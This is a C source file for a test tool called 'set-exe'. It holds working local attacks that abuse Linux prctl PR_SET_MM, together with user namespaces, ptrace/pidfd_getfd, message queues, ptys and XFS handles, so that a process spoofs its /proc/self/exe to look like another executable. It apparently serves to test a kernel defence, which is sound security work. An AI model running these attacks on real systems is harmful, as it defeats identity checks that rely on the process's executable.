// SPDX-License-Identifier: GPL-2.0
/*
 * set-exe: attacks that use prctl(2) to make X the executable of a process that
 * does not run X.
 *
 *	set-exe ROW WHAT [COMMAND...]
 *
 * P11	from a user namespace; the request is made inside it
 * P11b	from a child that is in a user namespace and shares the memory; the
 *	process that makes the request was never inside
 * P11c	the same with a descriptor of X that COMMAND... sends over the socket
 *	that is its descriptor 3
 * P11d	the same with the descriptor of X that binfmt_misc gives to the
 *	interpreter of COMMAND...; the attacker traces COMMAND from its start
 * P11d-early	the same, but it waits for the end of its input while it holds
 *	that descriptor
 * P12	with CAP_SYS_RESOURCE
 * P12b	as P11b, with a message queue in the place of X: mq_open(2) accepts any
 *	flags
 * P12c	the same with a terminal, opened by TIOCGPTPEER
 * P21b	run as root: as P11b, as user 1000, with a descriptor of the file
 *	COMMAND/x on XFS, opened by its handle
 *
 * It prints to stderr the flags with which the descriptor of X is open, and the
 * executable of this process as the kernel shows it after the attack.
 *
 * gcc: -static
 */
#define _GNU_SOURCE
#include "attack.h"

#include <elf.h>
#include <grp.h>
#include <linux/prctl.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>

#include "ask.h"

#define FMODE_EXEC	040	/* the kernel's __FMODE_EXEC */

/*
 * The kernel requires plausible addresses; they need not be the old ones. For a
 * file that cannot be executed it returns EACCES: that is a result of the
 * attack, not a step that failed.
 */
static int set_mm_map(void *arg)
{
	const unsigned long brk = (unsigned long)sbrk(0), code = (unsigned long)set_mm_map;
	struct prctl_mm_map map = {
		.start_code = code, .end_code = code + 1,
		.start_data = code, .end_data = code + 1,
		.start_brk = brk, .brk = brk,
		.start_stack = (unsigned long)&map,
		.arg_start = code, .arg_end = code + 1,
		.env_start = code, .env_end = code + 1,
		.exe_fd = *(int *)arg,
	};

	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) == -1) {
		if (errno != EACCES)
			failed("PR_SET_MM_MAP");
		puts("evil EACCES");
		fflush(stdout);
		_exit(1);
	}
	return 0;
}

static void set_from_child(int fd)
{
	static char stack[65536] __attribute__((aligned(16)));
	int status;
	pid_t child;

	child = check("clone", clone(set_mm_map, stack + sizeof(stack),
				     CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, &fd));
	check("waitpid", waitpid(child, &status, 0));
	if (status)
		exit(1);	/* the child has said why */
}

/* Run a command, and return the descriptor that it sends to us. */
static int descriptor_from(char **command)
{
	int pair[2];

	check("socketpair", socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair));
	if (!check("fork", fork())) {
		if (pair[1] == 3)
			fcntl(3, F_SETFD, 0);
		else
			check("dup2", dup2(pair[1], 3));
		execv(command[0], command);
		failed("exec");
	}
	close(pair[1]);
	return receive_fd(pair[0]);
}

/*
 * Run a command and trace it, and take the descriptor that the kernel opened
 * for the command's interpreter.
 */
static int execfd_of(char **command)
{
	Elf64_auxv_t aux[64];
	char path[64];
	pid_t child;
	int fd, i, n, status;

	child = check("fork", fork());
	if (!child) {
		check("PTRACE_TRACEME", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
		execv(command[0], command);
		failed("exec");
	}
	check("waitpid", waitpid(child, &status, 0));
	if (!WIFSTOPPED(status))
		exit(1);	/* the child has said why */

	snprintf(path, sizeof(path), "/proc/%d/auxv", child);
	fd = check("auxv", open(path, O_RDONLY | O_CLOEXEC));
	n = check("read", read(fd, aux, sizeof(aux))) / sizeof(aux[0]);
	close(fd);
	for (i = 0; i < n && aux[i].a_type != AT_EXECFD; i++)
		;
	errno = ENOENT;
	check("AT_EXECFD", i < n ? 0 : -1);

	fd = check("pidfd_open", syscall(SYS_pidfd_open, child, 0));
	fd = check("pidfd_getfd", syscall(SYS_pidfd_getfd, fd, (int)aux[i].a_un.a_val, 0));
	kill(child, SIGKILL);
	check("waitpid", waitpid(child, &status, 0));
	return fd;
}

static int message_queue(void)
{
	const int fd = check("mq_open", syscall(SYS_mq_open, "attack", O_RDWR | O_CREAT | FMODE_EXEC,
						0700, NULL));

	check("mq_unlink", syscall(SYS_mq_unlink, "attack"));
	return fd;
}

static int terminal(void)
{
	const int master = check("/dev/ptmx", open("/dev/ptmx", O_RDWR | O_NOCTTY));
	int unlock = 0;

	check("TIOCSPTLCK", ioctl(master, TIOCSPTLCK, &unlock));
	return check("TIOCGPTPEER", ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY | FMODE_EXEC));
}

/* Most systems do not have <xfs/xfs_fs.h> installed. */
struct xfs_request {
	unsigned int fd;
	const char *path;
	unsigned int flags;
	void *handle;
	unsigned int handle_size;
	void *found;
	unsigned int *found_size;
};
#define XFS_PATH_TO_HANDLE	_IOWR('X', 105, struct xfs_request)
#define XFS_OPEN_BY_HANDLE	_IOWR('X', 107, struct xfs_request)

static int by_xfs_handle(const char *directory)
{
	const int dir = check(directory, open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	unsigned char handle[64];
	unsigned int size = sizeof(handle);
	char path[256];
	struct xfs_request find = { .path = path, .found = handle, .found_size = &size };
	struct xfs_request request = { .flags = O_RDONLY | FMODE_EXEC, .handle = handle };

	snprintf(path, sizeof(path), "%s/x", directory);
	check("XFS_IOC_PATH_TO_HANDLE", ioctl(dir, XFS_PATH_TO_HANDLE, &find));
	request.handle_size = size;
	return check("XFS_IOC_OPEN_BY_HANDLE", ioctl(dir, XFS_OPEN_BY_HANDLE, &request));
}

static void become_user(void)
{
	check("setgroups", setgroups(0, NULL));
	check("setresgid", setresgid(1000, 1000, 1000));
	check("setresuid", setresuid(1000, 1000, 1000));
}

static void show_flags(int fd)
{
	char path[64], line[128];
	FILE *info;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
	info = fopen(path, "r");
	while (info && fgets(line, sizeof(line), info))
		if (!strncmp(line, "flags:", 6))
			fputs(line, stderr);
	if (info)
		fclose(info);
}

int main(int argc, char **argv)
{
	const char *row = argv[1];
	char name[256] = "";
	int fd;

	alarm(20);
	if (argc < 3) {
		fprintf(stderr, "usage: set-exe ROW WHAT [COMMAND...]\n");
		return 2;
	}
	if (!strcmp(row, "P11c"))
		fd = descriptor_from(argv + 3);
	else if (!strncmp(row, "P11d", 4))
		fd = execfd_of(argv + 3);
	else if (!strcmp(row, "P12b"))
		fd = message_queue();
	else if (!strcmp(row, "P12c"))
		fd = terminal();
	else if (!strcmp(row, "P21b"))
		fd = by_xfs_handle(argv[3]);
	else
		fd = check("open", open(X, O_RDONLY));
	show_flags(fd);
	if (!strcmp(row, "P21b"))
		become_user();
	while (!strcmp(row, "P11d-early") && getchar() != EOF)
		;

	forget_executable();	/* otherwise the kernel refuses with EBUSY */
	if (!strcmp(row, "P11")) {
		enter_user_ns(0);
		set_mm_map(&fd);
	} else if (!strcmp(row, "P12")) {
		check("PR_SET_MM_EXE_FILE", prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, fd, 0, 0));
	} else {
		set_from_child(fd);
	}
	check("readlink", readlink("/proc/self/exe", name, sizeof(name) - 1));
	fprintf(stderr, "executable: %s\n", name);

	ask("evil", argv[2], ASK_PROCESS_KEYRING);
	return 0;
}
